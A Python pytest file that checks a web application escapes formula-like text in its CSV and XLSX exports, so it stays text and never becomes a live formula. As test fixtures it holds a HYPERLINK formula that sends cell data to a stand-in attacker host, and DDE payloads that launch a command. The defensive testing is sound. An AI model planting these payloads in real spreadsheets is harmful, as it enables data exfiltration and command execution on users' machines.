"""CSV (formula) injection: every CSV and Excel file the system writes keeps text as text. A unit
named "=HYPERLINK(…)" must not become a live formula in the public CSV, the publication's XLSX, the
progress export or an agency's import template."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from httpx import AsyncClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession

from api.core.csvsafe import csv_cell, csv_row
from api.core.xlsx import append_row
from api.units.models import Unit
from tests.support import builders
from tests.support.auth import Tokens
from tests.support.http import PUBLIC

EVIL = '=HYPERLINK("http://attacker.invalid/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # Numbers stay numbers: the ones the code writes, and text that is just a signed number.
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1,5", "-1,5"),
        ("-2e3", "-2e3"),
        (-5, -5),
        (Decimal("-0.25"), Decimal("-0.25")),
        (3.5, 3.5),
        (None, None),
        # Only the first character matters.
        ("Quận 1 - Hồ Chí Minh", "Quận 1 - Hồ Chí Minh"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_like_text_is_escaped_and_numbers_are_not(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


def test_a_row_written_by_the_csv_module_reads_back_as_text() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(csv_row(["Q1", EVIL, -3, "-3.5"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["Q1", "'" + EVIL, "-3", "-3.5"]


@pytest.mark.parametrize("write_only", [True, False])
def test_excel_text_cells_stay_text_unchanged(write_only: bool) -> None:
    """openpyxl stores any string starting with "=" as a formula unless the cell is typed as
    text; typed as text, the value is kept exactly (no apostrophe)."""
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x")
    append_row(sheet, [EVIL, "-3.5", -3, "@x"])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue()))["x"].iter_rows())
    assert [c.value for c in cells] == [EVIL, "-3.5", -3, "@x"]
    assert [c.data_type for c in cells] == ["s", "s", "n", "s"]


async def _rename_q1(session: AsyncSession) -> None:
    await session.execute(update(Unit).where(Unit.code == "Q1").values(name_vi=EVIL, name_en=EVIL))


async def test_the_public_csv_and_xlsx_keep_a_formula_named_unit_as_text(
    client: AsyncClient, session: AsyncSession
) -> None:
    await _rename_q1(session)
    await builders.published_round(session)
    response = await client.get(f"{PUBLIC}/rounds/1/results.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    q1 = next(r for r in rows if r["unit_code"] == "Q1")
    assert q1["unit_name_vi"] == "'" + EVIL
    assert q1["unit_name_en"] == "'" + EVIL
    assert not any(v.startswith("=") for r in rows for v in r.values())
    assert float(q1["points"]) >= 0  # figures stay plain numbers

    workbook = await client.get(f"{PUBLIC}/rounds/1/results.xlsx")
    book = load_workbook(io.BytesIO(workbook.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if c.value == EVIL]
    assert named
    assert all(c.data_type == "s" for c in named)
    assert not any(c.data_type == "f" for c in cells)


async def test_the_progress_export_keeps_a_formula_named_unit_as_text(
    client: AsyncClient, session: AsyncSession, viewer: dict[str, str]
) -> None:
    await _rename_q1(session)
    response = await client.get("/api/v1/rounds/1/progress.xlsx", headers=viewer)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    q1 = next(row for row in sheet.iter_rows() if row[0].value == "Q1")
    assert (q1[1].value, q1[1].data_type) == (EVIL, "s")
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


async def test_the_import_template_keeps_a_formula_named_unit_as_text(
    client: AsyncClient, session: AsyncSession, tokens: Tokens
) -> None:
    await _rename_q1(session)
    agency = await tokens.client("cuc-thue")
    response = await client.get("/api/v1/ingest/template", params={"round_id": 1}, headers=agency)
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    q1 = [row for row in sheet.iter_rows() if row[0].value == "Q1"]
    assert q1
    assert all((row[3].value, row[3].data_type) == (EVIL, "s") for row in q1)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
